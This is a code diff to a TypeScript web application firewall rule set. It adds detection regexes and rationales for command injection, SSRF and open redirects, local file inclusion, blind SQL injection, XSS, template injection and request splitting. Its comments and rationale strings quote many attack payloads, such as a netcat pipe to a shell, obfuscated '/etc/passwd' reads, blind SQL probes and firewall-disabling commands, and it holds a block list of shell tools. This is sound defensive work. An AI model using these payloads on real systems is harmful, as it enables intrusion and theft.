@@ -113,16 +113,17 @@ export interface WafRule {
 const SHELL_COMMANDS = [
   'cat', 'ls', 'id', 'whoami', 'uname', 'wget', 'curl', 'nc', 'ncat', 'netcat', 'bash', 'sh', 'zsh', 'ksh',
   'python', 'python3', 'perl', 'ruby', 'php', 'rm', 'chmod', 'chown', 'ping', 'nslookup', 'dig', 'sleep',
-  'powershell', 'cmd', 'certutil', 'busybox', 'telnet', 'base64', 'env', 'ifconfig', 'passwd', 'kill',
+  'powershell', 'cmd', 'certutil', 'busybox', 'telnet', 'base64', 'env', 'ifconfig', 'passwd', 'kill', 'pwd',
 ] as const;
 
 /** A command's directory, when a payload names it (/bin/, /usr/local/sbin/ …). */
 const BIN_DIR = String.raw`(?:/(?:usr/)?(?:local/)?s?bin/)?`;
 /**
  * What follows a command in an injected command line, and not in prose: an option, a path, a variable, an address, a
- * version-like number, a number that ends the command, a word then a path or option, the end of the value or another separator.
+ * version-like number, a number that ends the command, a word then a path or option, the end of the value, another separator,
+ * or a line break written as an escape (\n, \r), which an application that unescapes the value turns into one.
  */
-const COMMAND_ARGUMENT = String.raw`(?:\s+(?:[-/$~.'"%]|\d+\.\d+|\d+\s*(?:$|[;&|\x60)])|[\w-]+(?:[./:]\w|://)|[\w.-]+\s+(?:/[\w.]|~/|-{1,2}[a-zA-Z]))|\s*$|\s*[;&|\x60)<>])`;
+const COMMAND_ARGUMENT = String.raw`(?:\s+(?:[-/$~.'"%]|\d+\.\d+|\d+\s*(?:$|[;&|\x60)]|\\[nr])|[\w-]+(?:[./:]\w|://)|[\w.-]+\s+(?:/[\w.]|~/|-{1,2}[a-zA-Z]))|\s*$|\s*(?:[;&|\x60)<>]|\\[nr]))`;
 
 // More commands, judged outside API bodies only (1033): a prompt pipes to grep, sed or xargs in a one-line question.
 const MORE_SHELL_COMMANDS = [
@@ -219,6 +220,12 @@ export const ATTACK_TOOL_AGENTS = [
 
 /** Response headers a line break in a value injects (response splitting), as a regex alternation. */
 const INJECTED_HEADER_NAMES = String.raw`set-cookie|location|content-(?:type|length|disposition)|refresh|transfer-encoding|host|x-[\w-]+|access-control-[\w-]+`;
+/**
+ * Headers a line break injects into a request the application builds from a value (request splitting: a Referer,
+ * a Cookie or credentials for the next hop) or into a response, that are also words of a multi-line text ("Cookie
+ * policy"), so they count only with the colon of a header.
+ */
+const SPLIT_HEADER_NAMES = String.raw`referer|cookie|authorization|user-agent|content-security-policy|strict-transport-security|www-authenticate`;
 /** U+560A and U+560D (嘊 嘍), which some servers truncate to LF and CR, percent-encoded (once or more) or raw. */
 const UNICODE_LINE_BREAK = String.raw`%(?:25)*e5%(?:25)*98%(?:25)*8[ad]|\xe5\x98[\x8a\x8d]`;
 
@@ -292,7 +299,10 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
           // always resolves to localhost (localtest.me); a prompt that mentions one for local testing is prose
           String.raw`|\A\s*https?://(?:[^/\s]*@)?[\w.-]*?\b(?:\d{1,3}[.-]){3}\d{1,3}\.(?:nip|xip|sslip)\.io\b|\A\s*https?://(?:[^/\s]*@)?(?:[\w-]+\.)*(?:localtest|lvh|vcap)\.me\b` +
           // a host in circled or fullwidth digits (U+2460-U+24FF, U+FF10-U+FF19 in UTF-8), which NFKC turns into an address
-          String.raw`|://[^/\s?#]*?(?:\xe2(?:\x91[\xa0-\xbf]|\x92[\x80-\xbf]|\x93[\x80-\xbf])|\xef\xbc[\x90-\x99])`,
+          String.raw`|://[^/\s?#]*?(?:\xe2(?:\x91[\xa0-\xbf]|\x92[\x80-\xbf]|\x93[\x80-\xbf])|\xef\xbc[\x90-\x99])` +
+          // a value that starts with a slash and a backslash, or a slash, blanks and a slash, then a host: browsers read /\evil.example
+          // and /<tab>/evil.example as //evil.example (an open redirect past a check for //); \\host is a share on that host
+          String.raw`|\A\s*(?:/\\|\\/|\\\\|/\s+/)[\\/]*[\w-]+(?:\.[\w-]+)+`,
       },
       transformations: ['urlDecodeUni', 'urlDecodeUni'],
       action: deny, message: 'Directory traversal and inclusion: a dot-dot segment, an application config folder, an internal-only URL scheme, or a metadata, cluster API, container API or obfuscated IP host', severity: 'CRITICAL',
@@ -305,7 +315,8 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         'service-account token), and the unauthenticated container and node APIs on a loopback host (Docker 2375/2376, etcd 2379, kubelet 10250/10255); ' +
         'a private or loopback host after a URL\x27s user part (a.example:80+&@127.88.23.245, a.example\\@10.0.0.7), on which parsers disagree; the metadata address anywhere ' +
         'in a URL and the metadata API\x27s paths (/latest/meta-data/, /computeMetadata/v1) on any host; wildcard DNS names that spell an address (127.0.0.1.nip.io) ' +
-        'or always resolve to localhost (localtest.me); and a host in circled or fullwidth digits (http://①②⑦.⓪.⓪.①), which NFKC normalises to an address. ' +
+        'or always resolve to localhost (localtest.me); a host in circled or fullwidth digits (http://①②⑦.⓪.⓪.①), which NFKC normalises to an address; ' +
+        'and a value that starts with /\\, \\/ or a slash, a tab and a slash before a host (/\\evil.example, /%09/evil.example), which browsers follow as //evil.example, or that is a share on a named host (\\\\evil.example). ' +
         'A webhook with credentials for a public host, a documentation link into the metadata guide and Japanese prose around a URL pass.',
     },
     {
@@ -333,7 +344,10 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
           // account files and system32 behind separators spelled in encodings no decoder undoes (etc%c0%afpasswd,
           // etc0x5cpasswd, ..2fetc2fpasswd, windows%u2215system32): a plain windows/system32 stays prose. The e of etc may
           // have gone into an escape (%%66etc decoded twice is %fe, a byte, then tc)
-          `|(?:e|[\\x80-\\xff])tc(?:${ENCODED_SEPARATOR}|[\\\\/.]){1,12}?(?:passwd|shadow|issue)\\b|logs?(?:${ENCODED_SEPARATOR}){1,6}?(?:access|acces|error)[._]log\\b|windows(?:${ENCODED_SEPARATOR}){1,12}?(?:system32|(?:win|system)\\.ini\\b)|(?:${ENCODED_SEPARATOR})boot\\.ini\\b`,
+          `|(?:e|[\\x80-\\xff])tc(?:${ENCODED_SEPARATOR}|[\\\\/.]){1,12}?(?:passwd|shadow|issue)\\b|logs?(?:${ENCODED_SEPARATOR}){1,6}?(?:access|acces|error)[._]log\\b|windows(?:${ENCODED_SEPARATOR}){1,12}?(?:system32|(?:win|system)\\.ini\\b)|(?:${ENCODED_SEPARATOR})boot\\.ini\\b` +
+          // a value that is an absolute path into a system, log, mail or server folder, or to a server config file in any folder
+          String.raw`|\A\s*(?:[a-z]:)?[\\/]+(?:etc|proc|var[\\/]+(?:log|mail|run|adm|db|spool|lib|www)|usr[\\/]+(?:local|ports|pkgsrc)|opt[\\/]+[lx]ampp|[lx]ampp|wamp\d*|inetpub|mysql|program\s?files[^\\/]{0,8}[\\/]+(?:mysql|apache|php|filezilla))(?:[\\/][^\s\\/]*)+\s*$` +
+          String.raw`|\A\s*(?:[a-z]:)?[\\/](?:[^\s\\/]{1,40}[\\/]){1,8}(?:php\.ini|my\.(?:cnf|ini)|(?:httpd|apache2?|nginx|proftpd|lighttpd)\.conf|web\.xml)\s*$`,
       },
       transformations: ['urlDecodeUni', 'urlDecodeUni', 'normalisePath'],
       action: deny, message: 'Local file inclusion: a credential, history, log or system file (service-account token, /proc/self, kubeconfig, SSH keys, .git, /etc/shadow, win.ini) or a file:// or PHP stream URL', severity: 'CRITICAL',
@@ -344,7 +358,10 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         'has no Kubernetes paths and reads neither the URL path nor headers. On a Windows drive path: the system folder\'s repair, setup (panther) ' +
         'and temp folders, an account profile (ntuser.dat), unattended-setup answers, and server configs and logs (tomcat-users.xml, httpd.conf, access.log). ' +
         'And /etc/passwd, /etc/shadow, /etc/issue, system32 (with the hosts file under it) and boot.ini behind separators written in encodings no decoder undoes ' +
-        '(etc%c0%afpasswd, etc0x5cpasswd, ..2fetc2fpasswd, windows%uF025system32), and a server log behind them (..2fapache2flogs2faccess.log). Prose names paths like reports/2026/q3.csv or C:\\Users\\me\\report.docx, not these.',
+        '(etc%c0%afpasswd, etc0x5cpasswd, ..2fetc2fpasswd, windows%uF025system32), and a server log behind them (..2fapache2flogs2faccess.log). ' +
+        'And a value that is an absolute path into /etc, /proc, /var/log, /var/lib, /usr/local, a XAMPP or MySQL folder, or to a server config file ' +
+        '(/etc/apache/conf/httpd.conf, /proc/cmdline, C:\\Program Files\\MySQL\\…\\my.cnf, \\xampp\\tomcat\\conf\\web.xml): the API takes no server path, ' +
+        'and CRS 4 dropped many of these names from its list. Prose names paths like reports/2026/q3.csv or C:\\Users\\me\\report.docx, not these, and a prompt that names /etc/nginx/nginx.conf in a sentence is not a path.',
     },
     // ---- 1010-1014 SQL injection ----
     {
@@ -403,7 +420,9 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
           // comment (OR true--), or a quoted string compared with another ( or 'a'='a, or 'text' = n'text')
           String.raw`|\A\s*(?:-?[\w.]{0,20}['"]?\s*;?\s+)?(?:group\s+by\s+[\w.]+\s+)?(?:as\s+\w+\s+)?(?:or|and|xor|having|where)\s+\(*(?:(?:'?\d+'?\s*(?:=|<>|!=|<|>)\s*\(*'?\d+'?|[a-z]\s*=\s*[a-z])(?=\s*(?:$|--|#|/\*|;|(?:and|or)\b))|(?:true|false|\d+)\s*(?:--|#|/\*)|'[^'\n]{0,40}'\s*(?:=|<>|!=|<|>|like\b)\s*n?')` +
           // a column count probe: ORDER BY or GROUP BY numbers, then the end or a comment
-          String.raw`|\A\s*-?[\w.]{0,20}['"]?\s+(?:order|group)\s+by\s+\d+(?:\s*,\s*\d+)*,?\s*(?:--|#|/\*|;|$)`,
+          String.raw`|\A\s*-?[\w.]{0,20}['"]?\s+(?:order|group)\s+by\s+\d+(?:\s*,\s*\d+)*,?\s*(?:--|#|/\*|;|$)` +
+          // a boolean test on a subquery appended to a value (and (select substring(@@version,1,1))='M', rlike (select (case when …)))
+          String.raw`|\A\s*(?:-?[\w.]{0,20}['"]?\s*\)*\s+)?(?:or|and|xor|rlike|regexp|having|where)\s+\(+\s*select\s+(?:\(|case\b|\w+\s*\(|@@|\d|null\b|\*)`,
       },
       transformations: ['urlDecodeUni'],
       action: deny, message: 'SQL injection: a value followed by SQL (a closed parenthesis and an operator, an appended condition such as OR 1=1 or HAVING 1=1--, or a column count probe such as ORDER BY 5--)', severity: 'CRITICAL',
@@ -414,7 +433,9 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         'x\x27 HAVING 1=0#, OR x=y--, AND true--) or by ORDER BY/GROUP BY column numbers and the end or a comment (the column count probe before a ' +
         'UNION) is a boolean or error probe that the CRS leaves to paranoia level 2; the comparison must end the value or be followed by a comment or ' +
         'another AND/OR, so "2 and 2=4 is wrong" or "sort order by 3 fields" passes. Also a quoted string compared with another right after the OR ' +
-        '( or \x27a\x27=\x27a, x or \x27text\x27 = n\x27text\x27), and HAVING after GROUP BY (name group by userid having 1=1--); "or \x27maybe\x27 later" compares nothing.',
+        '( or \x27a\x27=\x27a, x or \x27text\x27 = n\x27text\x27), and HAVING after GROUP BY (name group by userid having 1=1--); "or \x27maybe\x27 later" compares nothing. ' +
+        'And a value that goes on with AND, OR or RLIKE and a subquery that calls a function, reads a server variable or opens CASE ' +
+        '( and (select substring(@@version,1,1))=\x27M\x27, RLIKE (SELECT (CASE WHEN …))), the blind probes CRS 3.3 misses; "and (select one) below" selects nothing.',
     },
     {
       id: 1014, category: 'sql-injection', phase: 2,
@@ -459,14 +480,18 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         String.raw`|\bthrow\s+onerror\s*=|\bonerror\s*=\s*(?:alert|confirm|prompt|eval)\b|\bsetTimeout\s*\x60` +
         String.raw`|\(\s*(?:alert|confirm|prompt|eval)\s*\)\s*\(|\bconstructor\s*\(\s*['"\x60][^'"\x60]{0,80}\b(?:alert|confirm|prompt|eval|fetch)\s*\(` +
         // the cookie or the domain read by a bracketed name, which filters for document.cookie miss
-        String.raw`|\bdocument\s*\[\s*['"\x60](?:cookie|domain)['"\x60]\s*\]` },
+        String.raw`|\bdocument\s*\[\s*['"\x60](?:cookie|domain)['"\x60]\s*\]` +
+        // a tag written in US-ASCII with the eighth bit set (\xbcscript\xbe is <script> to a decoder that drops it): a \xbc that
+        // no UTF-8 lead byte precedes, so it is not part of a character (CRS 941310 is removed: its pattern meets Russian and Japanese text)
+        String.raw`|(?:\A|[\x00-\x7f])\xbc\s*/?\s*[a-z][^\xbe>]{0,80}[\xbe>]` },
       transformations: ['urlDecodeUni', 'htmlEntityDecode', 'jsDecode'],
       action: deny, message: 'XSS: script URL, HTML data URL or script call outside markup, with or without parentheses (tagged template, optional call, call/apply, a callback, a built property name)', severity: 'CRITICAL',
       tags: ['attack-xss', 'OWASP_CRS/WEB_ATTACK/XSS'],
       rationale: 'Payloads that need no tag (links, redirect targets, attribute breakouts); "javascript:" must be followed by code (a call, a bracket, or no space), not by words ("JavaScript: Basics of the Language"); ' +
         'a call such as alert(1) or alert(document.cookie), or any call right after a closed string (\x27;alert( ); alert(\x27done\x27) in pasted code passes. ' +
         'Filters that look for alert( miss alert\x601\x60, alert?.(…), confirm.call(null,1), [1].find(alert), window[\x27al\x27+\x27ert\x27] and ' +
-        'throw onerror=alert, self[atob(\x27YWxlcnQ=\x27)], eval(atob(…)): each is a call of a dialog or eval function in a shape ordinary code and prose do not take.',
+        'throw onerror=alert, self[atob(\x27YWxlcnQ=\x27)], eval(atob(…)): each is a call of a dialog or eval function in a shape ordinary code and prose do not take. ' +
+        'And a tag in US-ASCII with the eighth bit set (the bytes \\xbc and \\xbe for < and >, outside a UTF-8 character), in place of CRS 941310.',
     },
     {
       id: 1023, category: 'xss', phase: 2,
@@ -526,17 +551,20 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
       variables: ['REQUEST_FILENAME', 'ARGS', 'ARGS_NAMES', 'REQUEST_COOKIES', ...suspectHeaders, 'XML:/*', 'FILES'],
       operator: {
         op: 'rx',
-        arg: String.raw`\A(?:[^\n]*?(?:[;&|]|(?<!\x60)\x60(?!\x60)(?![^\x60\n]*\x60(?:[,.;:!?)]*[ \t]+[A-Za-z\x60]|[.!?]+\s*$))|\$\()|\S*\n)\s*${BIN_DIR}(?:${SHELL_COMMANDS.join('|')})(?:\.exe)?${COMMAND_ARGUMENT}` +
+        arg: String.raw`\A(?:[^\n]*?(?:[;&|]|(?<!\x60)\x60(?!\x60)(?![^\x60\n]*\x60(?:[,.;:!?)]*[ \t]+[A-Za-z\x60]|[.!?]+\s*$))|\$\()|\S*\n|(?:\\[nr])+)\s*${BIN_DIR}(?:${SHELL_COMMANDS.join('|')})(?:\.exe)?${COMMAND_ARGUMENT}` +
+          // a terminal escape sequence written out (\033[2A moves the cursor up over what a log viewer showed) before a command
+          String.raw`|\\(?:033|x1b|e|u001b)\[[\d;]*[A-Za-z]?\s*${BIN_DIR}(?:${SHELL_COMMANDS.join('|')})${COMMAND_ARGUMENT}` +
           String.raw`|\A[^\n]*?(?:[;&|]|\$\()\s*(?:/[\w.-]*)*/[\w.-]*(?:\?\?|\w\?[\w?])[\w?.-]*(?:\s|/|$)` +
-          String.raw`|\A[^\n]*?[;&|]\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib|wmic|net1?|reg)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|(?:systeminfo|tasklist|ipconfig|netstat|ver|route\s+print|net1?\s+(?:user|localgroup|view|share|session|config))(?:\s+/\w+)*\s*(?:$|[;&|])|netsh\s+(?:firewall|advfirewall|interface|wlan)\s|reg(?:\.exe)?\s+(?:add|delete|query|save)\s+['"]?(?:HK|\\\\)|net1?\s+(?:user|localgroup|group)\s[^;&|\n]{0,80}?\s/(?:add|del(?:ete)?|domain|active)\b|set\s+/a\s+\d)` +
+          String.raw`|\A[^\n]*?[;&|]\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib|wmic|net1?|reg)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|(?:systeminfo|tasklist|ipconfig|netstat|ver|dir|route\s+print|net1?\s+(?:user|localgroup|view|share|session|config))(?:\s+/\w+)*\s*(?:$|[;&|])|netsh\s+(?:firewall|advfirewall|interface|wlan)\s|reg(?:\.exe)?\s+(?:add|delete|query|save)\s+['"]?(?:HK|\\\\)|net1?\s+(?:user|localgroup|group)\s[^;&|\n]{0,80}?\s/(?:add|del(?:ete)?|domain|active)\b|set\s+/a\s+\d)` +
           String.raw`|\A[^\n]*?(?:[;&|\x60]|\$\()\s*getent\s+(?:a?hosts|passwd|shadow|group)\b`,
       },
       transformations: ['urlDecodeUni'],
       action: deny, message: 'Command injection: a shell separator followed by a command', severity: 'CRITICAL',
       tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
-      rationale: 'A separator (; | & && || $( backtick) on the first line of a value, or a line break right after a single token, ' +
+      rationale: 'A separator (; | & && || $( backtick) on the first line of a value, a line break right after a single token, or line breaks written as escapes at the start (\\nid|), ' +
         'then a known command and an option, a path, a variable, an address or the end; a path spelled with ? wildcards (/bin/c?t /e??/p??swd) ' +
-        'or a Windows command on a drive path, an %ENV% variable, a share or a switch (& type C:\\Windows\\win.ini, | set /a 6*7), a Windows recon or tampering command (; net view, && netsh firewall set opmode disable, | reg add "HKLM\\…"), or getent hosts (a DNS probe), after a separator; prose puts plain words after "&" or ";" ' +
+        'or a Windows command on a drive path, an %ENV% variable, a share or a switch (& type C:\\Windows\\win.ini, | set /a 6*7), a Windows recon or tampering command (; net view, && netsh firewall set opmode disable, | reg add "HKLM\\…", ; dir), or getent hosts (a DNS probe), after a separator; ' +
+        'a command after a terminal escape written out (\\033[2Acurl …, which hides the line in a log viewer); prose puts plain words after "&" or ";" ' +
         '("cat & dog; id cards"), a markdown code span that prose goes on after ("`ls -la` prints nothing", "`cat a.txt`, then") is quoted code, ' +
         'and a multi-line value with shell lines or a ```bash fence is a pasted script, not an injected parameter.',
     },
@@ -568,7 +596,7 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
           String.raw`|\{\{\s*self\s*\}\}|\{\$smarty\.|\b_self\s*\.\s*env\b|\bregisterUndefinedFilterCallback\b|\{\{#with\s+["'][^"'}]*["']\s+as\s+\||__\$\{[^}]{1,80}\}__` +
           String.raw`|\|\s*attr\s*\(\s*["'](?:\\x5f|_{2}|application\b|request\b)|(?:\\x5f){2}(?:class|globals|builtins|mro|subclasses|init|import)` +
           String.raw`|(?:\$\{|\{\{|<%|\[%|#\{)[^\w\s]{0,3}?(?:\$\{|\{\{|<%|\[%|#\{)` +
-          String.raw`|__(?:mro|subclasses|globals|builtins)__|\bfreemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)\b|<#assign\b[^>]*\?new\s*\(` +
+          String.raw`|__\s*(?:mro|subclasses|globals|builtins)\s*__|\bfreemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)\b|<#assign\b[^>]*\?new\s*\(` +
           String.raw`|\{[{%][^}]{0,80}\b(?:config|self|request|lipsum|cycler|joiner|namespace)\s*\.\s*(?:__|(?:iter)?items\s*\(|from_object|application)|\{\{[^}]{0,40}\bapp\s*\.\s*request\s*\.\s*server\s*\.\s*all\b` +
           String.raw`|\$\{\s*(?:T\s*\(\s*java\.lang|Runtime|@java\.lang|new\s+java\.)|#\{\s*(?:T\s*\(|new\s+java\.)` +
           // a class walk without the underscores ({{ [].class.base.subclasses() }}), a Twig filter or query handed a shell
@@ -583,7 +611,7 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         'by a class walk without underscores ({{ [].class.base.subclasses() }}), a Twig filter handed a shell function ({{[\x27id\x27]|filter(\x27system\x27)}}), ' +
         'by engine handles (Smarty {$smarty., Twig _self.env, Handlebars {{#with "s" as |…|}}, Thymeleaf *{7*7} and __${…}__) and Jinja filter ' +
         'bypasses (|attr(\x27\\x5f\\x5fglobals\\x5f\\x5f\x27)), ' +
-        'and exploited through object traversal (__class__.__mro__, config.items(), FreeMarker Execute?new(), SpEL T(java.lang.Runtime)) or a dump of the ' +
+        'and exploited through object traversal (__class__.__mro__, also with spaces inside the underscores, config.items(), FreeMarker Execute?new(), SpEL T(java.lang.Runtime)) or a dump of the ' +
         'settings or the server\x27s variables ({% for k, v in config.iteritems() %}, Twig {{app.request.server.all|join(…)}}); ' +
         'templates pasted into prompts hold names ({{ user.name }}, ${total}), not those shapes.',
     },
@@ -595,7 +623,7 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         arg: String.raw`\A[^\n]*?(?:[;&|]|\$\()\s*${BIN_DIR}(?:${MORE_SHELL_COMMANDS.join('|')})(?:\.exe)?${COMMAND_ARGUMENT}` +
           String.raw`|\A\s*${BIN_DIR}(?:${[...SHELL_COMMANDS, ...MORE_SHELL_COMMANDS].join('|')})(?:\.exe)?\s+(?:-{1,2}[a-zA-Z]|/[\w.-]|~/|\$\{?[A-Za-z_]|(?:https?|ftp)://|\d+(?:\.\d+){3}\b|[\w.-]+\s*(?:[|;&>]|\$\()|[\w.-]+\s+(?:/[\w.]|~/|-{1,2}[a-zA-Z]))` +
           String.raw`|\A\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo|tasklist)(?:\.exe)?(?:\s+[-/]\w+)*\s*$|\A\s*(?:sleep\s+\d+|ps\s+(?:aux|-ef))\s*$` +
-          String.raw`|\A\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|net1?\s+(?:user|localgroup|group)\b)` +
+          String.raw`|\A\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|net1?\s+(?:user|localgroup|group)\b|net1?\s+(?:view|share|session)(?:\s+(?:\\\\\S*|/\w+))*\s*$|netsh\s+(?:firewall|advfirewall|interface|wlan)\s+(?:set|add|delete|reset)\b|reg(?:\.exe)?\s+(?:add|delete|save)\s+['"]?(?:HK|\\\\))` +
           // a command spelled with what a shell drops (c\a\t, c''url, cat$u), then a system folder or an option
           String.raw`|[;&|]\s*(?:${OBFUSCATED_COMMANDS.map(obfuscated).join('|')})${SHELL_FILLER}*(?:\s|\$\{?IFS\}?)+` +
           String.raw`(?:\\?/${SHELL_FILLER}*(?:${SYSTEM_FOLDERS.map(obfuscated).join('|')})(?![a-z])|-{1,2}[a-z])`,
@@ -604,7 +632,8 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
       action: deny, message: 'Command injection: a value that is a command line, a separator then a further command, or a command spelled with quotes, backslashes or empty variables (outside API bodies)', severity: 'CRITICAL',
       tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
       rationale: 'A parameter passed whole to a shell (cat /etc/passwd, wget http://…, ls -la, nc 10.0.0.1 4444 | sh, type C:\\boot.ini, whoami) starts with the command; ' +
-        'English that starts with the same words goes on with a word ("echo in the mirror", "curl and divergence", "ls 300 lexus"). After a separator, the commands ' +
+        'English that starts with the same words goes on with a word ("echo in the mirror", "curl and divergence", "ls 300 lexus"); a value that is a Windows ' +
+        'share, firewall or registry change (net view, netsh advfirewall set …, reg add "HKLM\\…" /f) is one too. After a separator, the commands ' +
         '1030 does not know (awk, sed, grep, xargs, find, ssh, sudo …), with the same argument shapes. And a command spelled with what a shell ' +
         'drops (backslashes, quotes, carets, unset variables: ; c\\a\\t \\/e\\t\\c/p\\a\\s\\swd, | c\x27\x27url -s, ; cat$u /etc$u/passwd), ' +
         'which 1030 reads as written: that filler may follow each letter of a command and of a system folder, and a system folder ' +
@@ -650,12 +679,13 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
     {
       id: 1050, category: 'http-protocol', phase: 1,
       variables: ['REQUEST_URI_RAW', 'REQUEST_HEADERS', 'REQUEST_HEADERS_NAMES'],
-      operator: { op: 'rx', arg: String.raw`(?i)(?:%(?:25)*0d|%(?:25)*0a|[\r\n]|\\r|\\n|${UNICODE_LINE_BREAK})+(?:%20|\s)*(?:${INJECTED_HEADER_NAMES}|http/\d|%(?:25)*0[ad]|<)|%(?:25)*00|\x00|^bytes\s*=\s*(?:[^,]*,){5}` },
+      operator: { op: 'rx', arg: String.raw`(?i)(?:%(?:25)*0d|%(?:25)*0a|[\r\n]|\\r|\\n|${UNICODE_LINE_BREAK})+(?:%20|\s)*(?:${INJECTED_HEADER_NAMES}|(?:${SPLIT_HEADER_NAMES})\s*(?::|%(?:25)*3a)|http/\d|%(?:25)*0[ad]|<)|%(?:25)*00|\x00|^bytes\s*=\s*(?:[^,]*,){5}` },
       // Decoded once: %25%30%41 (each hex digit of %0A encoded) is %0A to an application that decodes twice.
       transformations: ['urlDecodeUni'],
       action: deny, message: 'HTTP protocol attack: CR/LF before a header or markup or NUL in the URL or a header (response splitting), or a Range of six or more ranges', severity: 'CRITICAL',
       tags: ['attack-protocol', 'OWASP_CRS/PROTOCOL_VIOLATION/INVALID_HREQ'],
-      rationale: 'An encoded line break followed by a header name (Set-Cookie, Location ...) splits responses; NUL truncates names. ' +
+      rationale: 'An encoded line break followed by a header name (Set-Cookie, Location ...) splits responses, and followed by a Referer:, Cookie: or ' +
+        'Authorization: header it splits the request an application builds from the value; NUL truncates names. ' +
         'A plain line break in a query value (a multi-line message) stays allowed. A Range of six or more ranges amplifies responses (CVE-2011-3192).',
     },
     {
@@ -675,7 +705,7 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
     {
       id: 1052, category: 'http-protocol', phase: 2,
       variables: ['ARGS', 'ARGS_NAMES', 'XML:/*'],
-      operator: { op: 'rx', arg: String.raw`(?i)(?:%(?:25)*0[da]|\\r|\\n|\\u000[da]|\\u560[ad]|${UNICODE_LINE_BREAK})+(?:%20|\s|\+)*(?:(?:${INJECTED_HEADER_NAMES})\s*(?::|%3a)|http/\d(?:\.\d)?(?:%20|\s|\+)+\d{3}\b|<(?:html|meta|script)\b)` },
+      operator: { op: 'rx', arg: String.raw`(?i)(?:%(?:25)*0[da]|\\r|\\n|\\u000[da]|\\u560[ad]|${UNICODE_LINE_BREAK})+(?:%20|\s|\+)*(?:(?:${INJECTED_HEADER_NAMES}|${SPLIT_HEADER_NAMES})\s*(?::|%3a)|http/\d(?:\.\d)?(?:%20|\s|\+)+\d{3}\b|<(?:html|meta|script)\b)` },
       transformations: [],
       action: deny, message: 'HTTP protocol attack: an encoded line break before a header name in a parameter or body value (response splitting)', severity: 'CRITICAL',
       tags: ['attack-protocol', 'OWASP_CRS/PROTOCOL_VIOLATION/INVALID_HREQ'],
